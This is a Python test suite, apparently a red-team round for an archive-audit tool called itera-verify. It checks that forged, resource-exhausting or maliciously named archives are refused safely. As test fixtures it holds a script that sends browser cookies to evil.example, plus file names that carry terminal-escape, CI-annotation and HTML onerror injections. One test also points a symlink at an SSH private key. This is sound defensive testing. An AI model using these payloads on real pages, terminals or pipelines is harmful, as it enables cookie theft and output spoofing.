"""Fourth red team (independent), `itera-verify audit` of one archive or a batch, as a hostile sender or a hostile
store would attack it. Each test asserts the safe outcome (docs/survival.md, "Red team, fourth round"), which
every row now reaches.
Every archive is real: a campaign recorded and sealed by the tool, then rewritten member by member with the seal's
own canonical headers (tests/redteam4_forms.py), so only the planted difference is tested."""
from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
import time
from pathlib import Path

import numpy as np
import pytest
from safetensors.numpy import save

from tests.helpers import run_cli
from tests.redteam4_forms import Member, members, rewrite, seal, small_campaign, write_archive


@pytest.fixture(scope="module")
def clean(tmp_path_factory) -> Path:
    """A small whole campaign sealed by the tool (no reloads); tests copy it."""
    folder = tmp_path_factory.mktemp("redteam4-clean")
    return seal(small_campaign(folder / "machine"), folder / "sealed")


def copy_of(archive: Path, folder: Path, name: str | None = None) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    target = folder / (name or archive.name)
    shutil.copy(archive, target)
    shutil.copy(archive.with_name(archive.name + ".sha256"), target.with_name(target.name + ".sha256"))
    return target


def audited(archive: Path, *args, timeout: int = 300) -> tuple[int, dict | None, str]:
    """(exit code, the JSON report or None when stdout holds none, standard error) of the real command line."""
    result = run_cli("audit", archive, "--format", "json", *args, timeout=timeout)
    try:
        report = json.loads(result.stdout)
    except ValueError:
        report = None
    return result.returncode, report, result.stderr


# The command's own peak is its VmHWM: ru_maxrss (RUSAGE_SELF) survives exec, so a child of a pytest process that
# holds 350 MB would start at 350 MB whatever it does. Its children's is RUSAGE_CHILDREN.
# Said at exit (the command line ends through its atexit handlers, runtime/ending.py, not through a finally here).
PEAK = ("import atexit, resource, sys, runpy\n"
        "def own_peak():\n"
        "    for line in open('/proc/self/status'):\n"
        "        if line.startswith('VmHWM:'):\n            return int(line.split()[1])\n"
        "    return resource.getrusage(resource.RUSAGE_SELF).ru_maxrss\n"
        "atexit.register(lambda: print(f'PEAK_KIB {max(own_peak(), resource.getrusage(resource.RUSAGE_CHILDREN)"
        ".ru_maxrss)}', file=sys.stderr))\n"
        "runpy.run_module('itera_verify', run_name='__main__')\n")


def audited_with_peak(archive: Path, *args, timeout: int = 300) -> tuple[int, dict | None, str, int]:
    """audited(), and the peak resident memory (KiB) of that command and its children."""
    env = {k: v for k, v in os.environ.items() if k != "GITHUB_ACTIONS"}
    result = subprocess.run([sys.executable, "-c", PEAK, "audit", str(archive), "--format", "json", *args],
                            env={**env, "HF_HUB_OFFLINE": "1", "NO_COLOR": "1"}, capture_output=True, text=True,
                            timeout=timeout)
    peak = int(result.stderr.rsplit("PEAK_KIB ", 1)[1].split()[0])
    try:
        report = json.loads(result.stdout)
    except ValueError:
        report = None
    return result.returncode, report, result.stderr, peak


def codes_of(report: dict | None) -> set[str]:
    return {f["code"] for f in (report or {}).get("findings", []) if f.get("severity") == "error"}


def test_the_clean_small_campaign_audits_pass(clean, tmp_path):
    """The control beside the attacks below: the untouched archive passes."""
    code, report, stderr = audited(copy_of(clean, tmp_path))
    assert code == 0 and report["verdict"] == "pass", (stderr, codes_of(report))


# ---- a verdict that lies ----------------------------------------------------------------------------------
def test_a_forged_report_page_with_a_script_in_SEAL_is_refused(clean, tmp_path):
    page = (b"<!doctype html><title>itera-verify</title><h1>PASS: 0 errors, 4 artifacts reloaded on cuda</h1>"
            b"<script>fetch('https://evil.example/?'+document.cookie)</script>")

    def forged(listed: list[Member]) -> list[Member]:
        return [Member(m.name, m.kind, page, mode=m.mode, mtime=m.mtime) if m.name == "SEAL/report.html" else m
                for m in listed]

    archive = rewrite(copy_of(clean, tmp_path), forged)  # SHA256SUMS and .sha256 recomputed, as the sender would
    code, report, stderr = audited(archive)
    assert code == 1 and report["verdict"] == "fail", stderr
    assert any("report.html" in f["path"] for f in report["findings"] if f["severity"] == "error")


def test_two_members_whose_names_differ_only_in_case_are_refused(clean, tmp_path):
    nan_weights = save({"weight": np.full((4, 4), np.nan, dtype="float32")})

    def twinned(listed: list[Member]) -> list[Member]:
        out = []
        for m in listed:
            out.append(m)
            if m.name == "artifacts/control.safetensors":  # extracted second: on APFS it replaces the first
                out.append(Member("artifacts/Control.safetensors", "file", nan_weights, mode=m.mode, mtime=m.mtime))
        return out

    archive = rewrite(copy_of(clean, tmp_path), twinned)
    code, report, stderr = audited(archive)
    assert code == 1 and "IV703" in codes_of(report), (stderr, codes_of(report))


# ---- resource exhaustion -----------------------------------------------------------------------------------
def link_chains(path: Path, chains: int, length: int) -> Path:
    """`chains` folders, each a chain of `length` links (0000 -> 0001 -> ... -> a file): every link stays inside
    its folder, and each is resolved alone by os.path.realpath, walking the rest of its chain."""
    listed = [Member("", "directory")]
    for chain in range(chains):
        listed.append(Member(f"c{chain:04d}", "directory"))
        listed += [Member(f"c{chain:04d}/{i:04d}", "symlink", link=f"{i + 1:04d}") for i in range(length)]
        listed.append(Member(f"c{chain:04d}/{length:04d}", "file", b"end\n"))
    return write_archive(path, "link-chains", listed, sums=False)


@pytest.mark.slow
def test_a_chain_of_1500_links_is_refused_in_one_report_not_a_traceback(tmp_path):
    archive = link_chains(tmp_path / "chain.tar.zst", 1, 1500)
    code, report, stderr = audited(archive, timeout=120)
    assert "Traceback" not in stderr, stderr[-2000:]
    assert code == 1 and report is not None and "IV703" in codes_of(report)


@pytest.mark.slow
def test_a_small_archive_of_long_link_chains_is_refused_quickly(tmp_path):
    archive = link_chains(tmp_path / "chains.tar.zst", 6, 800)  # 22 KB; a 2 MB archive of them runs for hours
    started = time.monotonic()
    code, report, stderr = audited(archive, timeout=300)
    elapsed = time.monotonic() - started
    assert code == 1 and report is not None, stderr[-2000:]
    assert elapsed < 20, f"{elapsed:.0f} s for a {archive.stat().st_size} B archive"


@pytest.mark.slow
def test_an_archive_of_300000_empty_files_is_refused_before_it_costs_minutes_and_gigabytes(tmp_path):
    listed = [Member("", "directory"), Member("d", "directory")]
    listed += [Member(f"d/{i:07d}", "file") for i in range(300_000)]
    archive = write_archive(tmp_path / "many.tar.zst", "many-files", listed, sums=False)
    started = time.monotonic()
    code, report, stderr, peak_kib = audited_with_peak(archive, timeout=300)
    elapsed = time.monotonic() - started
    assert code == 1 and report is not None, stderr[-2000:]
    assert peak_kib < 300_000 and elapsed < 15, (f"{elapsed:.0f} s, peak {peak_kib // 1024} MiB, "
                                                 f"{len(report['findings'])} findings")


# ---- what lies beside the archive ------------------------------------------------------------------------------
@pytest.mark.slow
@pytest.mark.parametrize("suffix", [".sha256", ".sig"])
def test_a_fifo_beside_the_archive_does_not_hang_the_audit(clean, tmp_path, suffix):
    archive = copy_of(clean, tmp_path)
    sidecar = archive.with_name(archive.name + suffix)
    sidecar.unlink(missing_ok=True)
    os.mkfifo(sidecar)
    env = {k: v for k, v in os.environ.items() if k != "GITHUB_ACTIONS"}
    audit = subprocess.Popen([sys.executable, "-m", "itera_verify", "audit", str(archive), "--format", "json"],
                             env={**env, "HF_HUB_OFFLINE": "1"}, stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                             text=True)
    try:
        stdout, stderr = audit.communicate(timeout=20)
    except subprocess.TimeoutExpired:
        audit.terminate()  # SIGTERM: the tool removes its extraction folder as it leaves
        audit.communicate(timeout=60)
        pytest.fail("the audit still waited on the fifo after 20 s")
    assert audit.returncode in (0, 1) and json.loads(stdout)["verdict"], stderr[-2000:]


@pytest.mark.slow
def test_a_huge_sparse_sha256_beside_the_archive_is_read_within_a_bound(clean, tmp_path):
    archive = copy_of(clean, tmp_path)
    with open(archive.with_name(archive.name + ".sha256"), "r+b") as sidecar:
        sidecar.truncate(300 << 20)  # the right digest, then a hole: no disk used
    code, report, stderr, peak_kib = audited_with_peak(archive, timeout=120)
    assert code in (0, 1) and report is not None, stderr[-2000:]
    assert peak_kib < 200_000, f"peak {peak_kib // 1024} MiB"


# ---- a hostile store of results ------------------------------------------------------------------------------
def test_a_forged_result_in_the_results_store_does_not_pass_a_tampered_archive(clean, tmp_path):
    results = tmp_path / "results"
    good = copy_of(clean, tmp_path / "first")
    first = run_cli("audit", good.parent, "--results", results, "--format", "jsonl", timeout=300)
    assert first.returncode == 0, first.stderr
    (stored,) = results.iterdir()

    def swapped(listed: list[Member]) -> list[Member]:  # weights replaced after the seal: IV701 for an honest audit
        nan_weights = save({"weight": np.full((4, 4), np.nan, dtype="float32")})
        return [Member(m.name, m.kind, nan_weights, mode=m.mode, mtime=m.mtime)
                if m.name == "artifacts/control.safetensors" else m for m in listed]

    (tmp_path / "second").mkdir()
    bad = rewrite(good, swapped, tmp_path / "second" / good.name, sums=False)
    honest = run_cli("audit", bad, "--format", "json", timeout=300)
    assert honest.returncode == 1 and "IV701" in {f["code"] for f in json.loads(honest.stdout)["findings"]}

    # Whoever writes the store (the store itself, or a sender with write access) copies a passing envelope and
    # renames it after the tampered archive's SHA-256: the name's other parts were visible in the first write.
    good_sha, bad_sha = stored.name.split(".", 1)[0], json.loads(honest.stdout)["archive"]["sha256"]
    forged = stored.read_text().replace(good_sha, bad_sha)
    (results / stored.name.replace(good_sha, bad_sha)).write_text(forged)
    rerun = run_cli("audit", bad.parent, "--results", results, "--format", "jsonl", timeout=300)
    (row,) = [json.loads(line) for line in rerun.stdout.splitlines() if line.strip()]
    assert row["verdict"] == "fail" and rerun.returncode == 1, (row["verdict"], row["reused"])


# ---- output injection from names a sender or a store chooses ----------------------------------------------------
HOSTILE_NAMES = {
    "escape": "a\x1b]8;;https:evil.example\x1b\\click\x1b]8;;\x1b\\\x1b[2J\x1b[32mPASS.tar.zst",
    "workflow": "b\n::error file=x::forged annotation\n.tar.zst",
    "html": "c<img src=x onerror=alert(1)>.tar.zst",
}


def test_batch_rows_named_with_escapes_commands_and_markup_stay_inert(clean, tmp_path):
    folder = tmp_path / "delivery"
    for name in HOSTILE_NAMES.values():
        copy_of(clean, folder, name)
    page = tmp_path / "batch.html"
    result = run_cli("audit", folder, "--report", f"html={page}", timeout=300)
    assert result.returncode == 0, result.stderr
    for stream in (result.stdout, result.stderr):
        assert "\x1b" not in stream and "\n::error" not in stream and "\r" not in stream
    html = page.read_text()
    assert "<img src=x" not in html and "&lt;img src=x onerror=alert(1)&gt;" in html
    assert len([line for line in result.stdout.splitlines() if "PASS.tar.zst" in line or ".tar.zst" in line]) >= 3
    assert sorted(os.listdir(folder)) == sorted([*HOSTILE_NAMES.values(), *(n + ".sha256" for n in
                                                                            HOSTILE_NAMES.values())])
    assert members(folder / HOSTILE_NAMES["html"])[0] == "two-lots"
    single = run_cli("audit", folder / HOSTILE_NAMES["escape"], timeout=300)  # one archive: its name in progress
    assert single.returncode == 0 and "\x1b" not in single.stdout + single.stderr


def test_a_delivery_link_named_as_an_archive_to_the_reviewers_key_leaks_none_of_it(clean, tmp_path):
    """Refused right: a sender's folder (rsync keeps links) holding `x.tar.zst -> ~/.ssh/id_ed25519` is one failed
    row, and no byte of the key reaches any output or the results store."""
    key = tmp_path / "home" / ".ssh" / "id_ed25519"
    key.parent.mkdir(parents=True)
    secret = "b3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQAAAAAAAAABAAAAMwAAAAtzc2gtZW"
    key.write_text(f"-----BEGIN OPENSSH PRIVATE KEY-----\n{secret}\n-----END OPENSSH PRIVATE KEY-----\n")
    folder = tmp_path / "delivery"
    copy_of(clean, folder)
    os.symlink(key, folder / "keys.tar.zst")
    results = tmp_path / "results"
    result = run_cli("audit", folder, "--format", "jsonl", "--results", results, timeout=300)
    assert result.returncode == 1
    rows = {row["key"]: row for row in map(json.loads, result.stdout.splitlines())}
    assert rows["keys.tar.zst"]["verdict"] == "fail" and rows["two-lots.tar.zst"]["verdict"] == "pass"
    stored = "".join(p.read_text() for p in results.iterdir())
    for text in (result.stdout, result.stderr, stored):
        assert secret[:16] not in text and "BEGIN OPENSSH" not in text
